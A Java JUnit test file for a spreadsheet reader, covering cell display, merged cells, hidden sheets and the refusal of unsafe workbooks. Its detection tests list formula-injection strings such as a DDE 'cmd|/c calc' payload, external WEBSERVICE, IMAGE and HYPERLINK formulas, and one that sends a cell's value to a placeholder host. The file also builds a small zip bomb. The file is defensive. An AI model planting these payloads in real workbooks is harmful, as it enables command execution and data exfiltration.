package org.banli.document;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class SpreadsheetReaderTests {

	private static byte[] workbook(Consumer<XSSFWorkbook> fill) {
		try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			fill.accept(workbook);
			workbook.write(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new java.io.UncheckedIOException(ex);
		}
	}

	private static void styled(XSSFWorkbook workbook, Row row, int column, double value, String format) {
		CellStyle style = workbook.createCellStyle();
		style.setDataFormat(workbook.createDataFormat().getFormat(format));
		Cell cell = row.createCell(column);
		cell.setCellValue(value);
		cell.setCellStyle(style);
	}

	private static void refuses(byte[] content, int status, String key) {
		assertThatExceptionOfType(SpreadsheetRefused.class).isThrownBy(() -> SpreadsheetReader.read(content))
			.satisfies((ex) -> assertThat(ex.messageKey()).isEqualTo("document.sheet." + key))
			.satisfies((ex) -> assertThat(ex.status()).isEqualTo(status));
	}

	@Test
	void readsCellsAsTheyAreDisplayed() {
		Spreadsheet.Sheet sheet = SpreadsheetReader.read(workbook((workbook) -> {
			Row row = workbook.createSheet("清单").createRow(0);
			row.createCell(0).setCellValue("案由");
			styled(workbook, row, 1, 237, "0000");
			styled(workbook, row, 2, 237, "\"第\"0\"号\"");
			row.createCell(3).setCellValue(237);
			styled(workbook, row, 4, 45366, "yyyy\"年\"m\"月\"d\"日\"");
			row.createCell(5).setCellValue(true);
			row.createCell(6).setCellFormula("1+1");
			workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
		})).sheets().get(0);
		assertThat(sheet.name()).isEqualTo("清单");
		assertThat(sheet.at(0, 0).text()).isEqualTo("案由");
		assertThat(sheet.at(0, 1).text()).isEqualTo("0237");
		assertThat(sheet.at(0, 2).text()).isEqualTo("第237号");
		assertThat(sheet.at(0, 3).text()).isEqualTo("237");
		assertThat(sheet.at(0, 4).date()).isEqualTo(LocalDate.of(2024, 3, 15));
		assertThat(sheet.at(0, 5).text()).isEqualTo("TRUE");
		assertThat(sheet.at(0, 6).text()).isEqualTo("2");
		assertThat(sheet.at(3, 9).isEmpty()).isTrue();
	}

	@Test
	void showsAMergedCellEverywhere() {
		Spreadsheet.Sheet sheet = SpreadsheetReader.read(workbook((workbook) -> {
			Sheet one = workbook.createSheet();
			one.createRow(1).createCell(0).setCellValue("合并");
			one.createRow(2).createCell(1).setCellValue("右");
			one.addMergedRegion(new CellRangeAddress(1, 3, 0, 0));
		})).sheets().get(0);
		assertThat(sheet.at(2, 0).text()).isEqualTo("合并");
		assertThat(sheet.own(2, 0).isEmpty()).isTrue();
		assertThat(sheet.mergeAt(2, 1)).isNull();
	}

	@Test
	void leavesHiddenSheetsOut() {
		assertThat(SpreadsheetReader.read(workbook((workbook) -> {
			workbook.createSheet("看得见").createRow(0).createCell(0).setCellValue("a");
			workbook.createSheet("隐藏").createRow(0).createCell(0).setCellValue("b");
			workbook.setSheetHidden(1, true);
		})).sheets()).extracting(Spreadsheet.Sheet::name).containsExactly("看得见");
	}

	@ParameterizedTest
	@ValueSource(strings = { "[1]Sheet1!A1", "'C:\\temp\\[b.xlsx]S 1'!A1", "SUM([1]表!$A$1:$A$3)+1",
			"WEBSERVICE(\"http://x\")", "cmd|'/c calc'!A0", "HYPERLINK(\"https://x/\"&A1,\"看\")",
			"'file:///c:/[b.xlsx]S'!A1", "IF(1,_xlfn.IMAGE(\"https://x\"),2)" })
	void tellsFormulasThatPointOutside(String formula) {
		assertThat(FormulaCheck.pointsOutside(formula)).isTrue();
	}

	@ParameterizedTest
	@ValueSource(strings = { "A1+1", "表1[案由]", "SUM(表1[[#This Row],[数]])+Sheet2!A1", "'另 表'!A1&\"[1]x!A1\"",
			"TEXT(A1,\"[h]:mm\")&B1", "HYPERLINK(\"#Sheet1!A1\")", "VLOOKUP(A1,Sheet2!A:B,2,0)" })
	void letsOtherFormulasBe(String formula) {
		assertThat(FormulaCheck.pointsOutside(formula)).isFalse();
	}

	@Test
	void refusesAFormulaThatPointsOutside() {
		refuses(workbook((workbook) -> {
			Row row = workbook.createSheet("清单").createRow(0);
			row.createCell(0).setCellFormula("HYPERLINK(\"http://example.invalid/?\"&B1,\"x\")");
			row.getCell(0).setCellValue("x");
		}), 422, "outside");
	}

	@Test
	void refusesWhatIsNoWorkbook() throws IOException {
		refuses(new byte[0], 415, "nothing");
		refuses("编号,案由".getBytes(StandardCharsets.UTF_8), 415, "notAWorkbook");
		refuses(zip("word/document.xml", "x"), 415, "notAWorkbook");
		byte[] good = workbook((workbook) -> workbook.createSheet().createRow(0).createCell(0).setCellValue("a"));
		refuses(java.util.Arrays.copyOf(good, good.length / 2), 415, "damaged");
		try (HSSFWorkbook old = new HSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			old.createSheet();
			old.write(out);
			refuses(out.toByteArray(), 415, "oldExcel");
		}
		refuses(workbook((workbook) -> workbook.createSheet()), 422, "empty");
	}

	@Test
	void refusesAPassword() throws Exception {
		byte[] good = workbook((workbook) -> workbook.createSheet().createRow(0).createCell(0).setCellValue("a"));
		try (POIFSFileSystem files = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
			encryptor.confirmPassword("secret");
			try (OutputStream stream = encryptor.getDataStream(files)) {
				stream.write(good);
			}
			files.writeFilesystem(out);
			refuses(out.toByteArray(), 415, "password");
		}
	}

	@Test
	void refusesWhatUnpacksTooFar() throws IOException {
		refuses(zip("xl/worksheets/sheet1.xml", "<c>0</c>".repeat(4_000_000)), 413, "bomb");
		refuses(new byte[WorkbookPackage.MOST_BYTES + 1], 413, "tooManyBytes");
	}

	@Test
	void refusesTooManyRows() {
		try (SheetWriter writer = new SheetWriter()) {
			writer.sheet("长", null, List.of(new SheetWriter.Column("a", 10)));
			for (int i = 0; i < SheetHandler.MOST_ROWS; i++) {
				writer.row("x" + i);
			}
			refuses(writer.toBytes(), 413, "tooManyCells");
		}
	}

	@Test
	void readsWhatItWrites() {
		byte[] content;
		try (SheetWriter writer = new SheetWriter()) {
			content = writer
				.sheet("台账/一", "标题",
						List.of(new SheetWriter.Column("编号", 8), new SheetWriter.Column("日期", 12),
								new SheetWriter.Column("件数", 12)))
				.row("=1+1", LocalDate.of(2024, 3, 15), 5)
				.row("0237", null, null)
				.toBytes();
		}
		Spreadsheet.Sheet sheet = SpreadsheetReader.read(content).sheets().get(0);
		assertThat(sheet.at(0, 2).text()).isEqualTo("标题");
		assertThat(sheet.at(1, 1).text()).isEqualTo("日期");
		assertThat(sheet.at(2, 0).text()).isEqualTo("=1+1");
		assertThat(sheet.at(2, 1).date()).isEqualTo(LocalDate.of(2024, 3, 15));
		assertThat(sheet.at(2, 2).text()).isEqualTo("5");
		assertThat(sheet.at(3, 0).text()).isEqualTo("0237");
	}

	private static byte[] zip(String part, String content) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.putNextEntry(new ZipEntry(part));
			zip.write(content.getBytes(StandardCharsets.UTF_8));
		}
		return out.toByteArray();
	}

}
